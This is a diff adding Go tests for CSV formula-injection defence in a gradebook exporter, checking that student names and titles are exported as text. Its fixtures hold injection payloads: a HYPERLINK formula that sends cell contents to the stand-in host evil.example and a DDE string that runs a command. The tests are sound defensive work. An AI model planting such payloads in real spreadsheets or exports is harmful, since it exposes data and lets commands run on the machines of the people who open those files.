@@ -35,6 +35,47 @@ func TestGradebookCSV(t *testing.T) {
 	}
 }
 
+func TestNeutralise(t *testing.T) {
+	for _, tc := range []struct{ in, want string }{
+		{"Avery", "Avery"},
+		{"", ""},
+		{"=HYPERLINK(\"http://evil.example\",\"x\")", "'=HYPERLINK(\"http://evil.example\",\"x\")"},
+		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
+		{"-2+3", "'-2+3"},
+		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
+		{"\t=1+1", "'\t=1+1"},
+		{"\r=1+1", "'\r=1+1"},
+		{"-2", "-2"},     // a number stays a number
+		{"-0.5", "-0.5"}, // likewise
+		{"O'Neil = top", "O'Neil = top"},
+	} {
+		if got := neutralise(tc.in); got != tc.want {
+			t.Errorf("neutralise(%q) = %q, want %q", tc.in, got, tc.want)
+		}
+	}
+}
+
+// A roster name that is a formula reaches every export as text.
+func TestCSVExportsNeutraliseFormulas(t *testing.T) {
+	s := completeClass(t)
+	evil := `=HYPERLINK("http://evil.example/?"&A1,"Click")`
+	s.Students[0].Student = evil
+	s.Title = "@Essay"
+	gb := string(GradebookCSV(s, fixtureRubric(t), "+Period 3", []GradebookRow{{StudentID: "1001", GivenName: "x", FamilyName: evil}}))
+	for name, out := range map[string]string{"gradebook": gb, "levels": string(LevelsCSV(s)), "summary": string(SummaryCSV(s))} {
+		for i, line := range strings.Split(out, "\n") {
+			for _, cell := range strings.Split(line, ",") {
+				if c := strings.TrimPrefix(cell, `"`); c != "" && strings.ContainsRune("=+-@", rune(c[0])) && strings.Trim(c, "-0123456789.") != "" {
+					t.Errorf("%s line %d: cell %q starts a formula", name, i+1, cell)
+				}
+			}
+		}
+	}
+	if !strings.Contains(gb, `"'=HYPERLINK(`) || !strings.Contains(gb, "'+Period 3") || !strings.Contains(gb, "'@Essay") {
+		t.Errorf("gradebook does not neutralise:\n%s", gb)
+	}
+}
+
 func TestLevelsAndSummaryCSV(t *testing.T) {
 	s := completeClass(t)
 	lines := strings.Split(strings.TrimSpace(string(LevelsCSV(s))), "\n")
